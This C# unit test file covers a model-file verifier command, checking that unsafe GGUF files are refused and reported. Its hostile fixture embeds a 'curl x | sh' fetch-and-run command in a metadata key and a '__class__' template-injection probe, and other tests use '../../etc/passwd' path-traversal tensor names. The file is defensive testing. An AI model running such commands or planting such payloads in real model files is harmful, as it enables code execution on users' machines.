using System.Text.Json;
using Kandil.Tests.Unit.Fakes;

namespace Kandil.Tests.Unit.Cli.Commands;

/// <summary><c>kandil model verify</c> of files that nobody vouches for, as a person and as a program see it.</summary>
public sealed class ModelVerifyCommandTests : IDisposable
{
    private static readonly GgufBuilder Sound = GgufBuilder.Chain("hello there");
    private static readonly GgufBuilder Hostile = Sound.Set("system.startup", "sh -c 'curl x | sh'").Template("{{ messages.__class__ }}");

    private readonly KandilHome _home = new();

    public void Dispose() => _home.Dispose();

    [Fact]
    public async Task A_sound_file_passes_and_is_loaded_unless_that_is_left_out()
    {
        string file = _home.Model("sound.gguf", Sound);

        KandilResult loaded = await RunAsync(file);
        KandilResult unloaded = await RunAsync(file, "--no-load-test");
        KandilResult quiet = await RunAsync(file, "--no-load-test", "-q");

        Assert.Equal($"{file}: nothing is wrong with it; load test passed.\n", loaded.Output);
        Assert.Equal($"{file}: nothing is wrong with it; not loaded.\n", unloaded.Output);
        Assert.Equal($"{file}\n", quiet.Output);
    }

    [Fact]
    public async Task A_hostile_file_is_refused_with_a_line_for_each_finding()
    {
        string file = _home.Model("evil.gguf", Hostile);

        KandilResult result = await RunAsync(file);

        Assert.Contains("system.startup", result.Failure("E_UNSAFE", 6), StringComparison.Ordinal);
        Assert.Contains($"{file}: refused.\n", result.Output, StringComparison.Ordinal);
        Assert.Matches(@"(?m)^  error    suspicious metadata key 'system\.startup'.*\(suspicious-key, at byte [\d,]+\)$", result.Output);
        Assert.Matches(@"(?m)^  error    .*__class__.*line 1, column \d+ of 'tokenizer.chat_template'\)$", result.Output);
    }

    [Theory]
    [InlineData("verify")]
    [InlineData("import")]
    public async Task A_model_without_a_tokenizer_is_refused_with_the_keys_that_are_missing(string command)
    {
        string file = _home.Model("mute.gguf", Sound.Remove("tokenizer.ggml.model").Remove("tokenizer.ggml.tokens"));

        string said = (await KandilProcess.RunAsync(_home, "model", command, file)).Failure("E_UNSAFE", 6);

        Assert.Contains("'tokenizer.ggml.model'", said, StringComparison.Ordinal);
        Assert.Contains("'tokenizer.ggml.tokens'", said, StringComparison.Ordinal);
        Assert.DoesNotContain("local/mute", (await KandilProcess.RunAsync(_home, "model", "list")).Output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("verify", "../../etc/passwd")]
    [InlineData("verify", "/etc/passwd")]
    [InlineData("import", "a/../b")]
    public async Task A_tensor_with_a_name_like_a_paths_is_refused_with_it(string command, string name)
    {
        string file = _home.File("path.gguf");
        await File.WriteAllBytesAsync(file, new GgufRaw().Tensor(name, [8], 0, 0).Data(64).ToBytes());
        Assert.Contains($"'{name}'", (await KandilProcess.RunAsync(_home, "model", command, file)).Failure("E_UNSAFE", 6), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_program_gets_the_findings_of_one_refused_file_and_the_report()
    {
        string file = _home.Model("evil.gguf", Hostile), sarif = _home.File("found.sarif");

        KandilResult result = await RunAsync(file, "--json", "--sarif", sarif);

        result.Ended(6);
        Assert.Equal("E_UNSAFE", result.Envelope().GetProperty("error_code").GetString());
        JsonElement data = result.Envelope().GetProperty("data"), model = data.GetProperty("models")[0];
        Assert.False(model.GetProperty("passed").GetBoolean());
        Assert.Equal("E_UNSAFE", model.GetProperty("error").GetProperty("error_code").GetString());
        JsonElement finding = model.GetProperty("findings").EnumerateArray().Single(finding => finding.GetProperty("rule").GetString() == "suspicious-key");
        Assert.Equal(("error", "system.startup", file), (
            finding.GetProperty("severity").GetString(), finding.GetProperty("key").GetString(), finding.GetProperty("file").GetString()));
        Assert.True(finding.GetProperty("offset").GetInt64() > 0);
        Assert.Equal(sarif, data.GetProperty("sarif").GetString());
        Assert.Contains("\"ruleId\": \"suspicious-key\"", await File.ReadAllTextAsync(sarif), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_folder_fails_by_the_one_that_fails_and_the_others_are_told_of()
    {
        _home.Model("a.gguf", Sound);
        _home.Model("evil.gguf", Hostile);

        KandilResult result = await RunAsync(_home.Files, "--no-load-test", "--json");

        result.Ended(6);
        Assert.Equal("E_UNSAFE", result.Envelope().GetProperty("error_code").GetString());
        Assert.Equal([true, false], result.Envelope().GetProperty("data").GetProperty("models").EnumerateArray().Select(model => model.GetProperty("passed").GetBoolean()));
    }

    private Task<KandilResult> RunAsync(params string[] arguments) => KandilProcess.RunAsync(_home, ["model", "verify", .. arguments]);
}
